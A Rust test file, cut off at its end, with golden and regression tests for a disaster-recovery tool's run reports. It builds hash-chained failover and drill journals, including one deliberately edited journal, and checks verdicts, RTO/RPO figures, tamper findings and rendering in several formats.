//! Golden tests: a fixed set of journals (built here with valid hash chains,
//! then written to `testdata/runs/` so that the CLI and browser tests read
//! the very same files) rendered in every format and compared with
//! `testdata/report.*`. `UPDATE_GOLDEN=1 cargo test --lib report::` rewrites
//! them; review the diff before committing.

use std::path::{Path, PathBuf};

use chrono::{DateTime, Duration, Utc};
use serde_json::json;

use super::*;
use crate::journal::Temp;
use crate::journal::chain::{hash_line, head_text};
use crate::journal::event::{CleanupResult, ErrorClass, PlanRef, StepError, StepRef};

fn t(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

/// The plans the fixed journals were written under: payments and ledger
/// as they were then, in two regions (the reference files without their
/// eu-west-1 entries), so that the golden reports stay as they were.
fn plans() -> Vec<Plan> {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("plans");
    let dir = tempfile::tempdir().expect("temp dir");
    for name in ["payments.toml", "ledger.toml", "tiers.toml"] {
        let text = std::fs::read_to_string(root.join(name)).expect("reference plan");
        std::fs::write(dir.path().join(name), without_eu_west_1(&text)).expect("write plan");
    }
    let loaded = crate::plan::load(&[dir.path().to_path_buf()]);
    assert!(!loaded.has_errors(), "{:?}", loaded.diagnostics);
    loaded.plans
}

/// `text` without its `, "eu-west-1"` and `, eu-west-1 = "..."` entries.
fn without_eu_west_1(text: &str) -> String {
    let mut out = text.replace(", \"eu-west-1\"", "");
    while let Some(at) = out.find(", eu-west-1 = \"") {
        let value = at + ", eu-west-1 = \"".len();
        let end = out[value..].find('"').map_or(out.len(), |i| value + i + 1);
        out.replace_range(at..end, "");
    }
    out
}

/// A journal under construction: events at offsets (seconds) from `t0`.
struct J {
    run_id: String,
    t0: DateTime<Utc>,
    events: Vec<(f64, Event)>,
}

impl J {
    fn new(run_id: &str, t0: &str) -> Self {
        Self {
            run_id: run_id.into(),
            t0: t(t0),
            events: Vec::new(),
        }
    }

    fn at(&mut self, secs: f64, e: Event) -> &mut Self {
        self.events.push((secs, e));
        self
    }

    fn time(&self, secs: f64) -> DateTime<Utc> {
        self.t0 + Duration::milliseconds((secs * 1000.0) as i64)
    }

    /// The journal's lines with a valid chain, and its head.
    fn build(&self) -> JournalText {
        let mut prev = crate::journal::chain::ZERO_HASH.to_string();
        let mut text = String::new();
        for (seq, (secs, event)) in self.events.iter().enumerate() {
            let record = Record {
                seq: seq as u64,
                at: self.time(*secs),
                prev: prev.clone(),
                event: event.clone(),
                fence: Default::default(),
                late: None,
            };
            let line = serde_json::to_string(&record).unwrap();
            prev = hash_line(&line);
            text.push_str(&line);
            text.push('\n');
        }
        JournalText {
            run_id: self.run_id.clone(),
            head: Some(head_text(&self.run_id, self.events.len() as u64, &prev)),
            text,
            late: Vec::new(),
        }
    }
}

fn started(
    run_id: &str,
    kind: RunKind,
    plan: &str,
    flags: serde_json::Value,
    declared_at: Option<DateTime<Utc>>,
    steps: &[(&str, &str)],
) -> Event {
    Event::RunStarted {
        run_id: run_id.into(),
        kind,
        target: "us-east-1".into(),
        plans: vec![PlanRef {
            name: plan.into(),
            digest: "0".repeat(64),
        }],
        operator: Some("arn:aws:iam::123456789012:user/alice".into()),
        host: "ops-1".into(),
        pid: 4242,
        flags,
        declared_at,
        nonce: None,
        steps: steps
            .iter()
            .map(|(id, d)| StepRef {
                id: (*id).into(),
                deps: Vec::new(),
                description: (*d).into(),
            })
            .collect(),
    }
}

fn gate(plan: &str, gate: GateName, decision: Decision, detail: serde_json::Value) -> Event {
    Event::Gate {
        plan: plan.into(),
        gate,
        decision,
        detail,
    }
}

fn step(s: &str) -> Event {
    Event::StepStarted {
        step: s.into(),
        attempt: 1,
    }
}

fn done(s: &str, outputs: serde_json::Value) -> Event {
    Event::StepSucceeded {
        step: s.into(),
        outputs,
    }
}

fn finished(outcome: Outcome) -> Event {
    Event::RunFinished {
        outcome,
        summary: json!({}),
    }
}

const FAILOVER_STEPS: [(&str, &str); 5] = [
    ("payments/preflight", "check us-east-1 is ready"),
    (
        "payments/promote:payments-db",
        "promote payments-db-use1 to a writable primary",
    ),
    (
        "payments/scale:payments-api",
        "scale payments-api-use1 to 2/4/8",
    ),
    (
        "payments/switch-dns:example.com.",
        "point api.example.com. at us-east-1",
    ),
    ("payments/evidence", "store the run's evidence"),
];

/// A failover of payments: `lag` at promotion, DNS in sync after `rto` s.
fn failover(run_id: &str, t0: &str, lag: f64, rto: f64, approval: Event) -> J {
    let mut j = J::new(run_id, t0);
    let declared = j.time(-120.0);
    let in_sync = j.time(rto - 120.0);
    j.at(
        0.0,
        started(
            run_id,
            RunKind::Failover,
            "payments",
            json!({"mode": {"mode": "failover"}}),
            Some(declared),
            &FAILOVER_STEPS,
        ),
    )
    .at(0.2, approval)
    .at(
        0.4,
        gate(
            "payments",
            GateName::Rpo,
            Decision::Pass,
            json!({"databases": [{"resource": "payments-db", "lag_seconds": lag, "within_rpo": lag <= 300.0}]}),
        ),
    )
    .at(0.5, step("payments/preflight"))
    .at(1.5, done("payments/preflight", json!({})))
    .at(1.6, step("payments/promote:payments-db"))
    .at(1.6, step("payments/scale:payments-api"))
    .at(
        20.0,
        done(
            "payments/promote:payments-db",
            json!({"lag_seconds": lag, "lag_datapoints": 3, "lag_read_by": "promote"}),
        ),
    )
    .at(
        45.0,
        done(
            "payments/scale:payments-api",
            json!({"before": "0/0/8", "after": "2/4/8"}),
        ),
    )
    .at(45.1, step("payments/switch-dns:example.com."))
    .at(
        rto - 119.0,
        done(
            "payments/switch-dns:example.com.",
            json!({"in_sync_at": in_sync}),
        ),
    )
    .at(rto - 118.0, step("payments/evidence"))
    .at(rto - 117.0, done("payments/evidence", json!({"stored": ["s3://drctl-evidence-use1/payments"]})))
    .at(rto - 116.9, finished(Outcome::Succeeded));
    j
}

fn approved() -> Event {
    gate(
        "payments",
        GateName::Approval,
        Decision::Pass,
        json!({"required": true, "approved_by": "arn:aws:iam::123456789012:user/alice", "reason": "us-west-2 RDS unreachable, INC-4711", "how": "--approve"}),
    )
}

/// An `audit verify --evidence` of run `id`'s payments packs: the S3 pack
/// whole, the GCS pack with `problems` (object name, what is wrong).
fn verified(id: &str, problems: &[(&str, &str)]) -> Event {
    let claims: Vec<_> = (problems.iter())
        .map(|(name, what)| (*name, *what, crate::evidence::ProblemKind::Claim))
        .collect();
    verified_as(id, &claims)
}

/// [`verified`], each problem of its kind.
fn verified_as(id: &str, problems: &[(&str, &str, crate::evidence::ProblemKind)]) -> Event {
    use crate::evidence::{DestinationCheck, PlanCheck, Problem};
    Event::EvidenceVerified {
        by: Some("arn:aws:iam::123456789012:user/auditor".into()),
        host: "audit-1".into(),
        plans: vec![PlanCheck {
            plan: "payments".into(),
            destinations: vec![
                DestinationCheck {
                    signed_by: None,
                    retention: None,
                    destination: "s3://drctl-evidence-use1/payments".into(),
                    verified: 4,
                    problems: vec![],
                },
                DestinationCheck {
                    signed_by: None,
                    retention: None,
                    destination: "gs://drctl-evidence/payments".into(),
                    verified: 4 - problems.len(),
                    problems: problems
                        .iter()
                        .map(|(name, what, kind)| Problem {
                            object: format!("gs://drctl-evidence/payments/{id}/{name}"),
                            problem: (*what).into(),
                            kind: *kind,
                        })
                        .collect(),
                },
            ],
        }],
    }
}

/// The fixed journals, by name.
fn journals() -> Vec<JournalText> {
    let mut out = Vec::new();
    // 1. A failover that passed. Its evidence was verified whole the next
    // day, then found altered on GCS a month later: the last verification
    // is the one that counts, and neither moves the run's end.
    let id = "20261001T100000Z-payments-a001";
    let mut j = failover(id, "2026-10-01T10:00:00Z", 2.0, 300.0, approved());
    j.at(86_400.0, verified(id, &[])).at(
        30.0 * 86_400.0,
        verified(
            id,
            &[(
                "state.json",
                "altered: the manifest says SHA-256 5f1c (2210 bytes), the stored object has 9a0e (20 bytes)",
            )],
        ),
    );
    out.push(j.build());

    // 2. A failover of ledger whose RPO was missed (--accept-data-loss).
    let id = "20261015T080000Z-ledger-b002";
    let mut j = J::new(id, "2026-10-15T08:00:00Z");
    let steps = [
        ("ledger/preflight", "check us-east-1 is ready"),
        ("ledger/promote:ledger-db", "promote ledger-db-use1"),
        (
            "ledger/switch-dns:example.com.",
            "point ledger.example.com. at us-east-1",
        ),
    ];
    let in_sync = j.time(200.0);
    j.at(
        0.0,
        started(
            id,
            RunKind::Failover,
            "ledger",
            json!({"mode": {"mode": "failover"}, "accept_data_loss_seconds": 3600}),
            None,
            &steps,
        ),
    )
    .at(
        0.1,
        gate(
            "ledger",
            GateName::Approval,
            Decision::Pass,
            json!({"required": false}),
        ),
    )
    .at(
        0.2,
        gate(
            "ledger",
            GateName::Rpo,
            Decision::Override,
            json!({"databases": [{"resource": "ledger-db", "lag_seconds": 1200.0, "within_rpo": false}]}),
        ),
    )
    .at(0.3, step("ledger/preflight"))
    .at(1.0, done("ledger/preflight", json!({})))
    .at(1.1, step("ledger/promote:ledger-db"))
    .at(
        30.0,
        done(
            "ledger/promote:ledger-db",
            json!({"lag_seconds": 1200.0, "lag_datapoints": 5, "lag_read_by": "rpo gate"}),
        ),
    )
    .at(30.1, step("ledger/switch-dns:example.com."))
    .at(
        201.0,
        done(
            "ledger/switch-dns:example.com.",
            json!({"in_sync_at": in_sync}),
        ),
    )
    .at(201.5, finished(Outcome::Succeeded));
    out.push(j.build());

    // 3. A scheduled shadow drill of payments that passed.
    let id = "20261117T030000Z-payments-c003";
    let mut j = J::new(id, "2026-11-17T03:00:05Z");
    let db = Temp::Database {
        region: "us-east-1".into(),
        id: "drill-20261117t030000z-c003-payments-db-use1".into(),
    };
    let cap = Temp::Capacity {
        region: "us-east-1".into(),
        group: "payments-api-use1".into(),
    };
    let rec = Temp::Record {
        kind: crate::plan::spec::ResourceKind::Dns,
        project: String::new(),
        zone: "example.com.".into(),
        name: "drill-20261117t030000z-c003.api.example.com.".into(),
        rtype: "CNAME".into(),
    };
    let steps = [
        ("payments/preflight", "check us-east-1 is ready"),
        (
            "payments/drill-database:payments-db",
            "create a temporary replica of payments-db in us-east-1, promote it",
        ),
        (
            "payments/drill-scale:payments-api",
            "raise payments-api-use1 to 2/4/8",
        ),
        (
            "payments/drill-dns:api.example.com.",
            "create drill-20261117t030000z-c003.api.example.com.",
        ),
    ];
    let in_sync = j.time(412.0);
    j.at(
        0.0,
        started(
            id,
            RunKind::Drill,
            "payments",
            json!({"mode": {"mode": "drill", "depth": "shadow"}, "schedule_slot": "2026-11-17T03:00:00Z"}),
            None,
            &steps,
        ),
    )
    .at(
        0.1,
        gate(
            "payments",
            GateName::Approval,
            Decision::Pass,
            json!({"required": false, "why": "a shadow drill changes no production resource"}),
        ),
    )
    .at(0.2, step("payments/preflight"))
    .at(1.0, done("payments/preflight", json!({})))
    .at(
        1.1,
        Event::DrillResource {
            step: "payments/drill-database:payments-db".into(),
            resource: db.clone(),
        },
    )
    .at(1.1, step("payments/drill-database:payments-db"))
    .at(
        1.2,
        Event::DrillResource {
            step: "payments/drill-scale:payments-api".into(),
            resource: cap.clone(),
        },
    )
    .at(1.2, step("payments/drill-scale:payments-api"))
    .at(
        95.0,
        done(
            "payments/drill-scale:payments-api",
            json!({"in_service": 4}),
        ),
    )
    .at(
        380.0,
        done(
            "payments/drill-database:payments-db",
            json!({"lag_seconds": 1.0, "lag_datapoints": 1}),
        ),
    )
    .at(
        380.1,
        Event::DrillResource {
            step: "payments/drill-dns:api.example.com.".into(),
            resource: rec.clone(),
        },
    )
    .at(380.1, step("payments/drill-dns:api.example.com."))
    .at(
        413.0,
        done(
            "payments/drill-dns:api.example.com.",
            json!({"in_sync_at": in_sync}),
        ),
    );
    for (i, (res, result)) in [
        (rec, CleanupResult::Removed),
        (db, CleanupResult::Removed),
        (cap, CleanupResult::Restored),
    ]
    .into_iter()
    .enumerate()
    {
        j.at(
            420.0 + i as f64 * 10.0,
            Event::Cleanup {
                resource: res,
                result,
                detail: "proven by a read".into(),
            },
        );
    }
    j.at(441.0, finished(Outcome::Succeeded));
    out.push(j.build());

    // 4. A drill of ledger that failed and could not clean up.
    let id = "20261120T090000Z-ledger-d004";
    let mut j = J::new(id, "2026-11-20T09:00:00Z");
    let db = Temp::Database {
        region: "us-east-1".into(),
        id: "drill-20261120t090000z-d004-ledger-db-use1".into(),
    };
    let steps = [
        ("ledger/preflight", "check us-east-1 is ready"),
        (
            "ledger/drill-database:ledger-db",
            "create a temporary replica of ledger-db in us-east-1, promote it",
        ),
    ];
    j.at(
        0.0,
        started(
            id,
            RunKind::Drill,
            "ledger",
            json!({"mode": {"mode": "drill", "depth": "shadow"}}),
            None,
            &steps,
        ),
    )
    .at(0.2, step("ledger/preflight"))
    .at(1.0, done("ledger/preflight", json!({})))
    .at(
        1.1,
        Event::DrillResource {
            step: "ledger/drill-database:ledger-db".into(),
            resource: db.clone(),
        },
    )
    .at(1.1, step("ledger/drill-database:ledger-db"))
    .at(
        200.0,
        Event::StepFailed {
            step: "ledger/drill-database:ledger-db".into(),
            error: StepError {
                message: "rds PromoteReadReplica on `drill-20261120t090000z-d004-ledger-db-use1` in us-east-1 failed: InvalidDBInstanceState".into(),
                kind: ErrorClass::Precondition,
                transient: false,
                resource: Some("drill-20261120t090000z-d004-ledger-db-use1".into()),
                region: Some("us-east-1".into()),
            },
        },
    )
    .at(
        230.0,
        Event::Cleanup {
            resource: db,
            result: CleanupResult::Failed,
            detail: "DeleteDBInstance: AccessDenied".into(),
        },
    )
    .at(231.0, finished(Outcome::CleanupIncomplete));
    out.push(j.build());

    // 5. An emergency failover never approved afterwards.
    out.push(
        failover(
            "20261110T220000Z-payments-e005",
            "2026-11-10T22:00:00Z",
            4.0,
            600.0,
            gate(
                "payments",
                GateName::Approval,
                Decision::Override,
                json!({"required": true, "emergency": true, "approve_by": "2026-11-11T22:00:00Z", "operator": "arn:aws:iam::123456789012:user/bob"}),
            ),
        )
        .build(),
    );

    // 6. A failover whose journal was edited after the fact: its lag of
    // 250 s (RPO missed) was rewritten to 2 s.
    let honest = failover(
        "20260920T120000Z-payments-f006",
        "2026-09-20T12:00:00Z",
        250.0,
        1300.0,
        approved(),
    )
    .build();
    out.push(JournalText {
        text: honest
            .text
            .replace("\"lag_seconds\":250.0", "\"lag_seconds\":2.0"),
        ..honest
    });
    out
}

fn request(plans: &[Plan]) -> Request<'_> {
    Request {
        plans,
        only: Vec::new(),
        window: Window {
            from: t("2026-08-25T00:00:00Z"),
            to: t("2026-11-23T12:00:00Z"),
        },
        now: t("2026-11-23T12:00:00Z"),
        keys: &crate::journal::NO_KEYS,
    }
}

fn testdata() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("src/report/testdata")
}

/// Compares `actual` with the golden file `name` (or rewrites it).
fn golden(name: &str, actual: &str) {
    let path = testdata().join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e} (UPDATE_GOLDEN=1 writes it)", path.display()));
    if want != actual {
        let first = want
            .lines()
            .zip(actual.lines())
            .position(|(a, b)| a != b)
            .unwrap_or(want.lines().count().min(actual.lines().count()));
        panic!(
            "{} differs from the rendering at line {}:\n  golden: {:?}\n  now:    {:?}\n(UPDATE_GOLDEN=1 rewrites it; review the diff)",
            path.display(),
            first + 1,
            want.lines().nth(first),
            actual.lines().nth(first)
        );
    }
}

/// The fixture journals as files, in the layout of a state directory.
fn fixture_files(dir: &Path, journals: &[JournalText]) {
    for j in journals {
        golden(&format!("{}/{}.jsonl", dir.display(), j.run_id), &j.text);
        golden(
            &format!("{}/{}.head", dir.display(), j.run_id),
            j.head.as_deref().unwrap_or_default(),
        );
    }
}

#[test]
fn golden_reports_from_the_fixed_journals() {
    let plans = plans();
    let journals = journals();
    fixture_files(Path::new("runs"), &journals);
    let r = build(&request(&plans), &journals);
    golden("report.md", &render::markdown(&r));
    golden("report.json", &render::json(&r));
    golden("report.csv", &render::csv(&r));
    golden("report.junit.xml", &render::junit(&r));
    golden("report.html", &super::html::html(&r));
    let incident = incident::post_incident(
        &journals[0],
        &plans,
        (request(&plans).now, &crate::journal::NO_KEYS),
    )
    .unwrap();
    golden("incident.md", &incident);
}

#[test]
fn verdicts_and_findings_of_the_fixed_journals() {
    let plans = plans();
    let r = build(&request(&plans), &journals());
    let row = |id: &str| {
        r.plans
            .iter()
            .flat_map(|p| &p.runs)
            .find(|x| x.run_id == id)
            .unwrap_or_else(|| panic!("no row {id}"))
    };
    assert_eq!(row("20261001T100000Z-payments-a001").verdict, Verdict::Pass);
    let a = row("20261001T100000Z-payments-a001");
    // RTO from the declaration to DNS in sync and read back; RPO the lag
    // at promotion.
    assert_eq!(a.rto.seconds, Some(301.0));
    assert_eq!(a.rpo.seconds, Some(2.0));
    assert!(
        matches!(&row("20261015T080000Z-ledger-b002").verdict, Verdict::Fail(w) if w.contains("RPO"))
    );
    assert_eq!(row("20261117T030000Z-payments-c003").verdict, Verdict::Pass);
    let d = row("20261120T090000Z-ledger-d004");
    assert!(matches!(&d.verdict, Verdict::Fail(w) if w.contains("InvalidDBInstanceState")));
    assert_eq!(d.cleanup.as_ref().map(|c| c.complete), Some(false));
    // The tampered journal: no figure, an UNKNOWN verdict, a finding.
    let f = row("20260920T120000Z-payments-f006");
    assert!(!f.chain.ok);
    assert_eq!(f.rpo.seconds, None);
    assert_eq!(f.rto.seconds, None);
    assert!(matches!(&f.verdict, Verdict::Unknown(w) if w.contains("does not verify")));
    let kinds: Vec<findings::Kind> = r.findings.iter().map(|f| f.kind).collect();
    for k in [
        findings::Kind::BrokenChain,
        findings::Kind::MissedTarget,
        findings::Kind::ApprovalOverdue,
        findings::Kind::CleanupIncomplete,
        findings::Kind::FailedRun,
        findings::Kind::DrillOverdue,
        findings::Kind::EvidenceMismatch,
    ] {
        assert!(kinds.contains(&k), "{k:?} missing from {kinds:?}");
    }
    // Every high finding comes first.
    let first_medium = r
        .findings
        .iter()
        .position(|f| f.severity != findings::Severity::High)
        .unwrap_or(r.findings.len());
    assert!(
        r.findings[first_medium..]
            .iter()
            .all(|f| f.severity != findings::Severity::High)
    );
    // ledger has no passing drill: its controls show the gap.
    let iso = r.controls.iter().find(|c| c.id == "A.5.30").unwrap();
    assert_eq!(iso.status, controls::Status::Gap);
    assert!(
        iso.missing.iter().any(|m| m.starts_with("ledger")),
        "{iso:?}"
    );
    assert!(
        iso.evidence
            .contains(&"20261117T030000Z-payments-c003".to_string())
    );
    assert_eq!(r.summary.runs, 6);
}

/// The row of the passing failover a001 in a report of `journals`.
fn a001(journals: &[JournalText]) -> (RunRow, Vec<findings::Finding>) {
    let plans = plans();
    let r = build(&request(&plans), journals);
    let row = r
        .plans
        .iter()
        .flat_map(|p| &p.runs)
        .find(|x| x.run_id == "20261001T100000Z-payments-a001")
        .cloned()
        .expect("a001");
    let found = r
        .findings
        .into_iter()
        .filter(|f| f.run.as_deref() == Some("20261001T100000Z-payments-a001"))
        .collect();
    (row, found)
}

#[test]
fn regression_a_record_after_the_end_does_not_move_the_runs_end() {
    // a001's journal goes on for a month after its run_finished (two
    // evidence verifications): its end and duration are the run's.
    let (row, _) = a001(&journals());
    assert_eq!(row.ended, Some(t("2026-10-01T10:03:03.100Z")));
    assert_eq!(row.duration_seconds, Some(183.1));
    assert_eq!(row.chain.records, 16);
}

/// Regression (`an_unreadable_evidence_object_was_reported_like_an_altered_one`):
/// an object the store did not give says nothing of its bytes. Its
/// finding is medium and says no sign of tampering, the page says
/// UNREADABLE (not NOT MATCHING), and the report's JSON names its kind;
/// an altered one beside it makes it a mismatch again.
#[test]
fn an_unreadable_evidence_object_is_no_mismatch_in_findings_or_pages() {
    use crate::evidence::ProblemKind::{Altered, Unreadable};
    let id = "20261001T100000Z-payments-a001";
    let unreadable = (
        "state.json",
        "unreadable: the store did not give its bytes",
        Unreadable,
    );
    let altered = ("report.json", "altered: ...", Altered);
    for (problems, severity) in [
        (vec![unreadable], findings::Severity::Medium),
        (vec![unreadable, altered], findings::Severity::High),
    ] {
        let mut js = journals();
        let mut j = failover(id, "2026-10-01T10:00:00Z", 2.0, 300.0, approved());
        j.at(86_400.0, verified_as(id, &problems));
        js[0] = j.build();
        let (_, found) = a001(&js);
        let mismatch: Vec<_> = (found.iter())
            .filter(|f| f.kind == findings::Kind::EvidenceMismatch)
            .collect();
        assert_eq!(mismatch.len(), 1, "{found:?}");
        assert_eq!(mismatch[0].severity, severity, "{problems:?}");
        let plans = plans();
        let r = build(&request(&plans), &js);
        let page = super::html::html(&r);
        let json = serde_json::to_string(&r).expect("report JSON");
        assert!(json.contains(r#""kind":"unreadable""#), "{json}");
        if problems.len() == 1 {
            assert!(mismatch[0].message.contains("no sign of tampering"));
            assert!(page.contains(">UNREADABLE<"), "{page}");
            assert!(!page.contains("NOT MATCHING"), "{page}");
        } else {
            assert!(mismatch[0].message.contains("does not match"));
            assert!(page.contains("NOT MATCHING"));
        }
    }
}

#[test]
fn the_last_evidence_verification_decides_the_mismatch_finding() {
    let mut js = journals();
    let (row, found) = a001(&js);
    let c = row.evidence_check.expect("verified");
    assert_eq!(c.at, t("2026-10-31T10:00:00Z"), "the last of two");
    assert_eq!(c.verified, 7);
    assert_eq!(c.problems.len(), 1);
    assert!(c.problems[0].object.ends_with("/state.json"));
    let mismatch: Vec<_> = found
        .iter()
        .filter(|f| f.kind == findings::Kind::EvidenceMismatch)
        .collect();
    assert_eq!(mismatch.len(), 1, "{found:?}");
    assert_eq!(mismatch[0].severity, findings::Severity::High);
    assert!(mismatch[0].message.contains("state.json: altered"));

    // A later verification finds the pack whole again (restored from the
    // other copy): the finding goes, the row says when it was proven.
    let id = "20261001T100000Z-payments-a001";
    let mut j = failover(id, "2026-10-01T10:00:00Z", 2.0, 300.0, approved());
    j.at(86_400.0, verified(id, &[("state.json", "altered: ...")]))
        .at(40.0 * 86_400.0, verified(id, &[]));
    js[0] = j.build();
    let (row, found) = a001(&js);
    let c = row.evidence_check.expect("verified");
    assert!(c.problems.is_empty());
    assert_eq!(c.verified, 8);
    assert!(
        found
            .iter()
            .all(|f| f.kind != findings::Kind::EvidenceMismatch),
        "{found:?}"
    );

    // Never verified: no check, no finding (the Markdown says so).
    js[0] = failover(id, "2026-10-01T10:00:00Z", 2.0, 300.0, approved()).build();
    let (row, found) = a001(&js);
    assert_eq!(row.evidence_check, None);
    assert!(found.is_empty(), "{found:?}");
    assert!(render::evidence_text(&row).starts_with("not verified yet"));
}

#[test]
fn regression_a_drills_own_report_in_its_evidence_pack_is_not_judged_unfinished() {
    // The passing drill c003 as its evidence step saw it: an evidence step
    // in its graph, started, and no cleanup yet (cleanup comes after). Its
    // pack's report said FAIL ("not every step of the drill ran") and
    // "left 3 resources".
    let plans = plans();
    let c003 = journals()
        .into_iter()
        .find(|j| j.run_id == "20261117T030000Z-payments-c003")
        .expect("c003");
    let records: Vec<Record> = c003
        .text
        .lines()
        .map(|l| serde_json::from_str(l).expect("record"))
        .collect();
    let t0 = records[0].at;
    let secs = |at: DateTime<Utc>| (at - t0).num_milliseconds() as f64 / 1000.0;
    let mut j = J::new(&c003.run_id, &t0.to_rfc3339());
    let mut last = 0.0;
    for r in &records {
        if matches!(r.event, Event::Cleanup { .. } | Event::RunFinished { .. }) {
            break;
        }
        let mut e = r.event.clone();
        if let Event::RunStarted { steps, .. } = &mut e {
            steps.push(StepRef {
                id: "payments/evidence".into(),
                deps: Vec::new(),
                description: "store the run's evidence".into(),
            });
        }
        last = secs(r.at);
        j.at(last, e);
    }
    j.at(last + 0.1, step("payments/evidence"));
    let payments = plans.iter().find(|p| p.name() == "payments").expect("plan");
    let r = of_running(payments, &j.build(), t0 + Duration::seconds(500));
    let row = &r.plans[0].runs[0];
    assert_eq!(row.verdict, Verdict::Pass, "{row:#?}");
    assert!(row.as_of.is_some());
    assert_eq!(row.rto.seconds, Some(412.0));
    let c = row.cleanup.as_ref().expect("a drill's cleanup");
    assert_eq!((c.complete, c.ran), (false, false));
    assert!(
        r.findings
            .iter()
            .all(|f| f.kind != findings::Kind::CleanupIncomplete),
        "{:#?}",
        r.findings
    );
    assert!(row.steps.iter().all(|s| !s.step.ends_with("/evidence")));
    assert!(render::markdown(&r).contains("- Cleanup: not run yet"));
}

#[test]
fn regression_an_unreadable_or_redated_journal_is_a_finding_not_an_omission() {
    let plans = plans();
    let mut js = journals();
    // Could not be read: the CLI passes it on empty.
    js.push(JournalText {
        run_id: "20261101T000000Z-payments-0bad".into(),
        text: String::new(),
        head: None,
        late: Vec::new(),
    });
    // Its start moved out of the window by an edit (the chain breaks).
    let honest = failover(
        "20261105T100000Z-payments-0ld0",
        "2026-11-05T10:00:00Z",
        2.0,
        300.0,
        approved(),
    )
    .build();
    js.push(JournalText {
        text: honest
            .text
            .replacen("2026-11-05T10:00:00Z", "2025-01-01T10:00:00Z", 1),
        ..honest
    });
    let r = build(&request(&plans), &js);
    for (id, says) in [
        (
            "20261101T000000Z-payments-0bad",
            "empty, or could not be read",
        ),
        (
            "20261105T100000Z-payments-0ld0",
            "whatever the report's window",
        ),
    ] {
        let f = r
            .findings
            .iter()
            .find(|f| f.run.as_deref() == Some(id))
            .unwrap_or_else(|| panic!("no finding for {id}: {:#?}", r.findings));
        assert_eq!(f.kind, findings::Kind::BrokenChain);
        assert_eq!(f.severity, findings::Severity::High);
        assert!(f.message.contains(says), "{}", f.message);
    }
    // Neither has a row or a figure.
    assert_eq!(r.summary.runs, 6);
}

#[test]
fn a_window_and_a_plan_filter_narrow_the_rows_not_the_cadence() {
    let plans = plans();
    let mut req = request(&plans);
    req.only = vec!["payments".into()];
    req.window.from = t("2026-11-01T00:00:00Z");
    let r = build(&req, &journals());
    assert_eq!(r.scope, vec!["payments".to_string()]);
    let ids: Vec<&str> = r.plans[0].runs.iter().map(|x| x.run_id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "20261110T220000Z-payments-e005",
            "20261117T030000Z-payments-c003"
        ]
    );
    assert!(!r.plans[0].cadence.overdue);
}

#[test]
fn csv_leaves_unknown_figures_empty_never_zero() {
    let plans = plans();
    let r = build(&request(&plans), &journals());
    let csv = render::csv(&r);
    let tampered = csv
        .lines()
        .find(|l| l.starts_with("20260920T120000Z-payments-f006"))
        .unwrap();
    let cells: Vec<&str> = tampered.split(',').collect();
    // rto_seconds and rpo_seconds columns.
    assert_eq!(cells[11], "");
    assert!(!tampered.contains(",0.000,"), "{tampered}");
}

/// A run refused by its approval gate (no `--approve` where the tier
/// requires one), as the engine journals it.
fn refused_by_approval() -> JournalText {
    let id = "20261121T090000Z-payments-r007";
    let mut j = J::new(id, "2026-11-21T09:00:00Z");
    j.at(
        0.0,
        started(
            id,
            RunKind::Failover,
            "payments",
            json!({"mode": {"mode": "failover"}}),
            None,
            &FAILOVER_STEPS,
        ),
    )
    .at(
        0.1,
        gate(
            "payments",
            GateName::Approval,
            Decision::Refuse,
            json!({"required": true, "how": "interactive confirmation", "confirmed": false}),
        ),
    )
    .at(
        0.2,
        Event::RunFinished {
            outcome: Outcome::Refused,
            summary: json!({"reason": "plan payments: the critical tier requires approval\n  hint: re-run with --approve REASON"}),
        },
    );
    j.build()
}

#[test]
fn refused_run_is_refused_in_every_format_not_unknown_failover() {
    let plans = plans();
    // The engine's own journal of a failover the RPO gate refused.
    let engine = JournalText {
        run_id: "20261122T150638Z-ledger-4758".into(),
        text: include_str!("../journal/testdata/golden/failover-refused.jsonl").into(),
        head: None,
        late: Vec::new(),
    };
    let at = serde_json::from_str::<Record>(engine.text.lines().next().unwrap())
        .unwrap()
        .at;
    let req = Request {
        plans: &plans,
        only: Vec::new(),
        window: Window {
            from: t("2026-11-21T00:00:00Z").min(at),
            to: at + Duration::hours(1),
        },
        now: at + Duration::hours(1),
        keys: &crate::journal::NO_KEYS,
    };
    let journals = [engine.clone(), refused_by_approval()];
    let r = build(&req, &journals);
    let rows: Vec<&RunRow> = r.plans.iter().flat_map(|p| &p.runs).collect();
    assert_eq!(rows.len(), 2, "{rows:#?}");
    for (row, gate_word) in rows.iter().zip(["approval", "rpo"]) {
        assert_eq!(row.outcome, Outcome::Refused);
        assert!(
            matches!(&row.verdict, Verdict::Refused(w) if w.contains(gate_word)),
            "{}: {:?}",
            row.run_id,
            row.verdict
        );
        assert!(row.rollback_scope.is_none());
    }
    assert_eq!((r.summary.refused, r.summary.unknown), (2, 0));
    assert!(
        r.findings.iter().all(|f| f.run.is_none()),
        "{:#?}",
        r.findings
    );

    let md = render::markdown(&r);
    let json: serde_json::Value = serde_json::from_str(&render::json(&r)).unwrap();
    let csv = render::csv(&r);
    let junit = render::junit(&r);
    let html = super::html::html(&r);
    let incident =
        incident::post_incident(&engine, &plans, (req.now, &crate::journal::NO_KEYS)).unwrap();
    for row in &rows {
        let id = row.run_id.as_str();
        let line = |text: &str, head: &str| {
            text.lines()
                .find(|l| l.starts_with(head) && l.contains(id))
                .unwrap_or_else(|| panic!("no line of {id} in:\n{text}"))
                .to_string()
        };
        assert!(line(&md, "| ").ends_with("| REFUSED |"), "{md}");
        assert!(md.contains(&format!("#### {id} — failover\n\n- Verdict: **REFUSED** (")));
        let csv_line = line(&csv, id);
        assert!(csv_line.contains(",REFUSED,"), "{csv_line}");
        let case = junit[junit.find(&format!("name=\"{id} ")).unwrap()..]
            .lines()
            .nth(1)
            .unwrap();
        assert!(
            case.starts_with(r#"      <skipped message="REFUSED: "#),
            "{case}"
        );
        let article = &html[html
            .find(&format!(r#"<article class="run" id="run-{id}-"#))
            .unwrap()..];
        assert!(
            article
                .lines()
                .nth(1)
                .unwrap()
                .ends_with(r#"<span class="badge refused">REFUSED</span></h3>"#),
            "{article}"
        );
    }
    for run in json["plans"]
        .as_array()
        .unwrap()
        .iter()
